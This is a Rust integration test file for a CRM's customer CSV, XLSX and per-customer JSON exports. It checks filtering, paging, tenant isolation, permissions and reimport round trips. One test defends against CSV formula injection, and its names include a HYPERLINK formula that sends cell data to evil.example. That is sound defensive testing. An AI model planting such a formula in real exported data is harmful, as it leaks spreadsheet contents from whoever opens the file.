//! Customer list exports (CSV, XLSX) and a customer's data export as a client sees them, on
//! SQLite and PostgreSQL.
#![allow(missing_docs, clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use std::io::Cursor;

use calamine::{Data, Reader, Xlsx};
use crm_blackbox_tests::{DbBackend, TestApp, on_both_backends};
use crm_domain::import::{ImportKind, ImportOptions, customer_row, detect_mapping};
use serde_json::{Value, json};

const XLSX: &str = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";

async fn customer(app: &TestApp, token: &str, body: Value) -> String {
    let r = app.post("/api/v1/customers", token, body).await;
    assert_eq!(r.status, 201, "{}", r.body);
    r.body["id"].as_str().unwrap().to_owned()
}

/// A customer named `name` with a unique e-mail and `extra` fields.
async fn named(app: &TestApp, token: &str, name: &str, extra: Value) -> String {
    let mut body = json!({"name": name, "email": format!("{}@example.com", uuid::Uuid::now_v7())});
    if let (Value::Object(b), Value::Object(e)) = (&mut body, extra) {
        b.extend(e);
    }
    customer(app, token, body).await
}

/// A raw response: status, headers, body bytes.
struct Raw {
    status: u16,
    headers: reqwest::header::HeaderMap,
    body: Vec<u8>,
}

impl Raw {
    fn header(&self, name: &str) -> Option<&str> {
        self.headers.get(name).and_then(|v| v.to_str().ok())
    }

    fn json(&self) -> Value {
        serde_json::from_slice(&self.body).unwrap_or(Value::Null)
    }
}

async fn raw_get(app: &TestApp, path: &str, token: &str) -> Raw {
    let res = app
        .http
        .get(format!("{}{path}", app.base))
        .bearer_auth(token)
        .send()
        .await
        .unwrap();
    let status = res.status().as_u16();
    let headers = res.headers().clone();
    let body = res.bytes().await.unwrap().to_vec();
    Raw {
        status,
        headers,
        body,
    }
}

/// `GET /api/v1/exports/customers?<query>` as CSV: headers and rows, after checking the
/// response's status and headers.
async fn csv_export(app: &TestApp, token: &str, query: &str) -> (Vec<String>, Vec<Vec<String>>) {
    let r = raw_get(app, &format!("/api/v1/exports/customers?{query}"), token).await;
    assert_eq!(r.status, 200, "{}", String::from_utf8_lossy(&r.body));
    assert_eq!(r.header("content-type"), Some("text/csv; charset=utf-8"));
    assert_eq!(
        r.header("content-disposition"),
        Some("attachment; filename=\"customers.csv\"")
    );
    // Streamed: no length known up front.
    assert_eq!(r.header("transfer-encoding"), Some("chunked"));
    assert_eq!(r.header("cache-control"), Some("no-store"));
    parse_csv(&r.body)
}

fn parse_csv(bytes: &[u8]) -> (Vec<String>, Vec<Vec<String>>) {
    let mut reader = csv::Reader::from_reader(bytes);
    let headers = reader
        .headers()
        .unwrap()
        .iter()
        .map(str::to_owned)
        .collect();
    let rows = reader
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect();
    (headers, rows)
}

fn column<'a>(headers: &[String], rows: &'a [Vec<String>], name: &str) -> Vec<&'a str> {
    let i = headers.iter().position(|h| h == name).unwrap();
    rows.iter().map(|r| r[i].as_str()).collect()
}

async fn a_filtered_csv_export_has_the_matching_rows_and_columns(backend: DbBackend) {
    let Some(app) = TestApp::spawn(backend).await else {
        return;
    };
    let t = app.token(app.tenant("A").await, "admin");
    named(
        &app,
        &t,
        "Citra",
        json!({"status": "inactive", "tags": ["b2b"]}),
    )
    .await;
    named(&app, &t, "Ani", json!({"status": "inactive"})).await;
    named(
        &app,
        &t,
        "Budi",
        json!({"status": "active", "tags": ["b2b"]}),
    )
    .await;
    named(&app, &t, "Dewi Inactive", json!({"status": "archived"})).await;

    let (headers, rows) = csv_export(
        &app,
        &t,
        "status=inactive&sort=name&columns=name,status,tags,email",
    )
    .await;
    assert_eq!(headers, ["name", "status", "tags", "email"]);
    assert_eq!(column(&headers, &rows, "name"), ["Ani", "Citra"]);
    assert_eq!(column(&headers, &rows, "status"), ["inactive", "inactive"]);
    assert_eq!(column(&headers, &rows, "tags"), ["", "b2b"]);
    assert!(rows.iter().all(|r| r[3].ends_with("@example.com")));

    // q and tag filters, sort descending.
    let (headers, rows) = csv_export(&app, &t, "tag=b2b&sort=-name&columns=name").await;
    assert_eq!(headers, ["name"]);
    assert_eq!(rows, [["Citra"], ["Budi"]]);
    let (_, rows) = csv_export(&app, &t, "q=dewi&columns=name").await;
    assert_eq!(rows, [["Dewi Inactive"]]);

    // The default columns: the API's field names, id first; values as the API shows them.
    let (headers, rows) = csv_export(&app, &t, "sort=name").await;
    assert_eq!(
        &headers[..4],
        ["id", "customer_number", "customer_code", "name"]
    );
    assert!(headers.contains(&"external_ref".to_owned()));
    assert_eq!(rows.len(), 4);
    let api = app.get("/api/v1/customers?sort=name", &t).await.body;
    for (row, c) in rows.iter().zip(api["data"].as_array().unwrap()) {
        assert_eq!(row[0], c["id"].as_str().unwrap());
        assert_eq!(row[2], c["customer_code"].as_str().unwrap());
        assert_eq!(
            column(&headers, std::slice::from_ref(row), "total_spent"),
            [c["total_spent"].as_str().unwrap()]
        );
    }

    // Parameters.
    for (query, field) in [
        ("columns=name,shoe_size", "columns"),
        ("columns=name,name", "columns"),
        ("format=pdf", "format"),
        ("limit=10", "limit"),
        ("cursor=abc", "cursor"),
        ("page=2", "page"),
        ("shoe_size=42", "shoe_size"),
        ("status=sleepy", "status"),
    ] {
        let r = app
            .get(&format!("/api/v1/exports/customers?{query}"), &t)
            .await;
        r.assert_problem(400);
        assert_eq!(r.error_field(), Some(field), "{query}: {}", r.body);
    }
}

/// More customers than one page: the export walks every page, each customer once.
async fn an_export_walks_every_page(backend: DbBackend) {
    let Some(app) = TestApp::spawn(backend).await else {
        return;
    };
    let t = app.token(app.tenant("A").await, "admin");
    for i in 0..230 {
        named(&app, &t, &format!("Bulk {i:03}"), json!({"tags": ["bulk"]})).await;
    }
    named(&app, &t, "Not bulk", json!({})).await;
    let (_, rows) = csv_export(&app, &t, "tag=bulk&columns=name").await;
    let mut names: Vec<&str> = rows.iter().map(|r| r[0].as_str()).collect();
    assert_eq!(names.len(), 230);
    names.sort_unstable();
    names.dedup();
    assert_eq!(names.len(), 230);
    let (_, sorted) = csv_export(&app, &t, "tag=bulk&columns=name&sort=name").await;
    let expected: Vec<Vec<String>> = (0..230).map(|i| vec![format!("Bulk {i:03}")]).collect();
    assert_eq!(sorted, expected);
}

async fn cells_are_neutralised_and_round_trip(backend: DbBackend) {
    let Some(app) = TestApp::spawn(backend).await else {
        return;
    };
    let t = app.token(app.tenant("A").await, "admin");
    let evil = [
        r#"=HYPERLINK("http://evil.example/?x="&A1,"Click")"#,
        "+1",
        "-2",
        "@x",
    ];
    for name in evil {
        named(&app, &t, name, json!({"tags": ["evil"]})).await;
    }
    let notes = "Likes \"kopi\", not tea.\nCall after 5, please";
    named(
        &app,
        &t,
        "Budi, \"the\" Builder",
        json!({"notes": notes, "mobile_phone": "0812-3456-7890", "tags": ["quoted", "vip"]}),
    )
    .await;

    let (headers, rows) = csv_export(&app, &t, "tag=evil&columns=name&sort=name").await;
    assert_eq!(headers, ["name"]);
    let mut expected: Vec<String> = evil.iter().map(|n| format!("'{n}")).collect();
    expected.sort_unstable_by_key(|n| n[1..].to_lowercase());
    let got: Vec<String> = rows.into_iter().map(|mut r| r.remove(0)).collect();
    let mut got_sorted = got.clone();
    got_sorted.sort_unstable_by_key(|n| n[1..].to_lowercase());
    assert_eq!(got_sorted, expected);

    // A comma, quotes and a line break survive a CSV parser; an E.164 phone is neutralised too.
    let (headers, rows) = csv_export(
        &app,
        &t,
        "tag=quoted&columns=name,notes,mobile_phone,tags,email,external_ref",
    )
    .await;
    assert_eq!(
        rows[0][..4],
        [
            "Budi, \"the\" Builder",
            notes,
            "'+6281234567890",
            "quoted;vip"
        ]
    );

    // And the file imports back into the same customer input.
    let mapping = detect_mapping(ImportKind::Customers, &headers).unwrap();
    let input = customer_row(
        &mapping,
        &rows[0],
        &ImportOptions::new(ImportKind::Customers),
    )
    .unwrap();
    assert_eq!(input.name.as_deref(), Some("Budi, \"the\" Builder"));
    assert_eq!(input.notes.as_deref(), Some(notes));
    assert_eq!(input.mobile_phone.as_deref(), Some("+6281234567890"));
    assert_eq!(
        input.tags,
        Some(vec!["quoted".to_owned(), "vip".to_owned()])
    );
    // The default columns (id, customer_code and external_ref among them) import too.
    let (headers, rows) = csv_export(&app, &t, "tag=quoted").await;
    let mapping = detect_mapping(ImportKind::Customers, &headers).unwrap();
    let at = |name: &str| headers.iter().position(|h| h == name).unwrap();
    assert_eq!(mapping[at("id")], None);
    assert_eq!(mapping[at("customer_code")], None);
    assert_eq!(mapping[at("external_ref")].as_deref(), Some("external_ref"));
    let input = customer_row(
        &mapping,
        &rows[0],
        &ImportOptions::new(ImportKind::Customers),
    )
    .unwrap();
    assert_eq!(input.name.as_deref(), Some("Budi, \"the\" Builder"));
    assert_eq!(input.email, Some(rows[0][at("email")].clone()));
}

async fn an_xlsx_export_is_a_workbook(backend: DbBackend) {
    let Some(app) = TestApp::spawn(backend).await else {
        return;
    };
    let t = app.token(app.tenant("A").await, "admin");
    named(
        &app,
        &t,
        "Ani",
        json!({"notes": "line 1\nline 2", "tags": ["x"]}),
    )
    .await;
    named(&app, &t, "=1+1", json!({"tags": ["x"]})).await;
    named(&app, &t, "Other", json!({})).await;

    let r = raw_get(
        &app,
        "/api/v1/exports/customers?format=xlsx&tag=x&sort=name&columns=name,notes,total_spent",
        &t,
    )
    .await;
    assert_eq!(r.status, 200, "{}", String::from_utf8_lossy(&r.body));
    assert_eq!(r.header("content-type"), Some(XLSX));
    assert_eq!(
        r.header("content-disposition"),
        Some("attachment; filename=\"customers.xlsx\"")
    );
    let mut book = Xlsx::new(Cursor::new(r.body)).unwrap();
    let sheet = book.worksheet_range_at(0).unwrap().unwrap();
    let rows: Vec<Vec<String>> = sheet
        .rows()
        .map(|row| {
            row.iter()
                .map(|c| match c {
                    Data::String(s) => s.clone(),
                    Data::Empty => String::new(),
                    other => panic!("a cell that is not text: {other:?}"),
                })
                .collect()
        })
        .collect();
    assert_eq!(
        rows,
        [
            vec!["name", "notes", "total_spent"],
            vec!["'=1+1", "", "0"],
            vec!["Ani", "line 1\nline 2", "0"],
        ]
    );
}

async fn exports_are_tenant_isolated_and_need_manage(backend: DbBackend) {
    let Some(app) = TestApp::spawn(backend).await else {
        return;
    };
    let a = app.tenant("A").await;
    let (admin, viewer, manager) = (
        app.token(a, "admin"),
        app.token(a, "viewer"),
        app.token(a, "manager"),
    );
    let other = app.token(app.tenant("B").await, "admin");
    let mine = named(&app, &admin, "Mine", json!({})).await;
    let theirs = named(&app, &other, "Theirs", json!({})).await;

    let (_, rows) = csv_export(&app, &admin, "columns=id,name").await;
    assert_eq!(rows, [[mine.clone(), "Mine".to_owned()]]);
    let (_, rows) = csv_export(&app, &other, "columns=id,name").await;
    assert_eq!(rows, [[theirs.clone(), "Theirs".to_owned()]]);
    let (_, rows) = csv_export(&app, &admin, "q=theirs&columns=name").await;
    assert!(rows.is_empty());

    // Another tenant's customer: 404, never 403.
    app.get(&format!("/api/v1/customers/{theirs}/export"), &admin)
        .await
        .assert_problem(404);
    app.get(&format!("/api/v1/customers/{mine}/export"), &other)
        .await
        .assert_problem(404);
    app.get(
        &format!("/api/v1/customers/{}/export", uuid::Uuid::now_v7()),
        &admin,
    )
    .await
    .assert_problem(404);

    // Exports need customers.manage: viewers and managers are refused.
    for token in [&viewer, &manager] {
        for path in [
            "/api/v1/exports/customers".to_owned(),
            "/api/v1/exports/customers?format=xlsx".to_owned(),
            format!("/api/v1/customers/{mine}/export"),
        ] {
            let r = app.get(&path, token).await;
            r.assert_problem(403);
        }
    }
    app.call("GET", "/api/v1/exports/customers", None, None, &[])
        .await
        .assert_problem(401);
}

async fn a_customer_data_export_has_everything_stored(backend: DbBackend) {
    let Some(app) = TestApp::spawn(backend).await else {
        return;
    };
    let t = app.token(app.tenant("A").await, "admin");
    let c = named(&app, &t, "Budi", json!({"notes": "prefers WhatsApp"})).await;
    let someone = named(&app, &t, "Someone Else", json!({})).await;
    let order = |body: Value, who: String| {
        let app = &app;
        let t = &t;
        async move {
            let r = app
                .post(&format!("/api/v1/customers/{who}/orders"), t, body)
                .await;
            assert_eq!(r.status, 201, "{}", r.body);
            r.body
        }
    };
    order(
        json!({"order_ref": "INV-1", "total_amount": "1500000", "placed_at": "2026-01-10T10:00:00Z"}),
        c.clone(),
    )
    .await;
    order(
        json!({"order_ref": "INV-2", "placed_at": "2026-02-10T10:00:00Z", "lines": [
            {"sku": "KOPI", "name": "Kopi", "quantity": "2", "unit_price": "400000"},
            {"sku": "TEH", "quantity": "1", "unit_price": "100000"}]}),
        c.clone(),
    )
    .await;
    order(
        json!({"order_ref": "OTHER-1", "total_amount": "500000"}),
        someone.clone(),
    )
    .await;
    let r = app
        .post(
            &format!("/api/v1/customers/{c}/loyalty/adjust"),
            &t,
            json!({"points": 7, "reason": "goodwill"}),
        )
        .await;
    assert_eq!(r.status, 200, "{}", r.body);
    let seg = app
        .post(
            "/api/v1/customer-segments",
            &t,
            json!({"name": "Hand picked", "segment_type": "manual"}),
        )
        .await;
    let seg_id = seg.body["id"].as_str().unwrap().to_owned();
    let r = app
        .post(
            &format!("/api/v1/customer-segments/{seg_id}/members"),
            &t,
            json!({"customer_ids": [c]}),
        )
        .await;
    assert_eq!(r.status, 200, "{}", r.body);

    let r = raw_get(&app, &format!("/api/v1/customers/{c}/export"), &t).await;
    assert_eq!(r.status, 200, "{}", String::from_utf8_lossy(&r.body));
    assert_eq!(
        r.header("content-disposition"),
        Some(format!("attachment; filename=\"customer-{c}.json\"").as_str())
    );
    let d = r.json();
    assert!(d["exported_at"].is_string());
    let api = app.get(&format!("/api/v1/customers/{c}"), &t).await.body;
    assert_eq!(d["customer"], api);
    assert_eq!(d["customer"]["notes"], "prefers WhatsApp");

    // Every order with its lines, newest first; nobody else's.
    let refs: Vec<&str> = d["orders"]
        .as_array()
        .unwrap()
        .iter()
        .map(|o| o["order_ref"].as_str().unwrap())
        .collect();
    assert_eq!(refs, ["INV-2", "INV-1"]);
    let lines = d["orders"][0]["lines"].as_array().unwrap();
    assert_eq!(lines.len(), 2);
    assert_eq!(lines[0]["sku"], "KOPI");
    assert_eq!(lines[0]["line_total"], "800000");
    assert_eq!(d["orders"][0]["total_amount"], "900000");

    // Every ledger entry: two earns (150 + 90 points) and the adjustment.
    let ledger = d["loyalty_ledger"].as_array().unwrap();
    let mut entries: Vec<(String, i64)> = ledger
        .iter()
        .map(|e| {
            (
                e["kind"].as_str().unwrap().to_owned(),
                e["points"].as_i64().unwrap(),
            )
        })
        .collect();
    entries.sort();
    assert_eq!(
        entries,
        [
            ("adjustment".to_owned(), 7),
            ("earn".to_owned(), 90),
            ("earn".to_owned(), 150)
        ]
    );
    assert_eq!(d["customer"]["loyalty_points"], 247);
    let loyalty = app
        .get(&format!("/api/v1/customers/{c}/loyalty?limit=200"), &t)
        .await
        .body;
    assert_eq!(d["loyalty_ledger"], loyalty["ledger"]);

    // Tier history: 2,400,000 spent reached Silver; the same as the tier-history endpoint.
    let history = app
        .get(&format!("/api/v1/customers/{c}/tier-history"), &t)
        .await
        .body;
    assert!(!history.as_array().unwrap().is_empty(), "{history}");
    assert_eq!(d["tier_history"], history);

    // Segments and analytics.
    assert_eq!(d["segments"][0]["name"], "Hand picked");
    assert_eq!(d["segments"][0]["segment_type"], "manual");
    assert_eq!(d["segments"].as_array().unwrap().len(), 1);
    assert_eq!(d["analytics"]["historical"]["orders"], 2);
    assert_eq!(d["analytics"]["historical"]["total_revenue"], 2_400_000.0);
    assert!(d["analytics"]["rfm"].is_null());
    assert!(d["analytics"]["prediction"].is_null());

    // Unknown parameters are refused.
    let r = app
        .get(&format!("/api/v1/customers/{c}/export?full=true"), &t)
        .await;
    r.assert_problem(400);
    assert_eq!(r.error_field(), Some("full"));
}

/// The default CSV export, imported back with `update` (matched by e-mail), changes nothing:
/// every row is `skipped` and no version moves.
async fn an_export_reimported_with_update_changes_nothing(backend: DbBackend) {
    let Some(app) = TestApp::spawn(backend).await else {
        return;
    };
    let t = app.token(app.tenant("A").await, "admin");
    for (i, name) in ["Budi Santoso", "=Siti", "Ani, \"the\" buyer"]
        .iter()
        .enumerate()
    {
        named(
            &app,
            &t,
            name,
            json!({"email": format!("c{i}@example.com"), "mobile_phone": format!("0812345678{i:02}"),
                   "tags": ["vip", "grosir"], "notes": "line one\nline two", "company": "PT Maju"}),
        )
        .await;
    }
    let before = app.get("/api/v1/customers?sort=name", &t).await.body;
    let file = raw_get(&app, "/api/v1/exports/customers", &t).await;
    assert_eq!(file.status, 200);
    let form = reqwest::multipart::Form::new()
        .part(
            "file",
            reqwest::multipart::Part::bytes(file.body.clone()).file_name("customers.csv"),
        )
        .text(
            "options",
            json!({"kind": "customers", "duplicate_policy": "update"}).to_string(),
        );
    let r = app
        .http
        .post(format!("{}/api/v1/imports?wait=true", app.base))
        .bearer_auth(&t)
        .multipart(form)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status().as_u16(), 200);
    let job: Value = r.json().await.unwrap();
    let p = &job["progress"];
    assert_eq!(
        (
            p["rows_read"].clone(),
            p["created"].clone(),
            p["updated"].clone(),
            p["skipped"].clone(),
            p["failed"].clone()
        ),
        (json!(3), json!(0), json!(0), json!(3), json!(0)),
        "{job}"
    );
    let after = app.get("/api/v1/customers?sort=name", &t).await.body;
    assert_eq!(before, after);
}

on_both_backends!(
    an_export_reimported_with_update_changes_nothing,
    a_filtered_csv_export_has_the_matching_rows_and_columns,
    an_export_walks_every_page,
    cells_are_neutralised_and_round_trip,
    an_xlsx_export_is_a_workbook,
    exports_are_tenant_isolated_and_need_manage,
    a_customer_data_export_has_everything_stored,
);
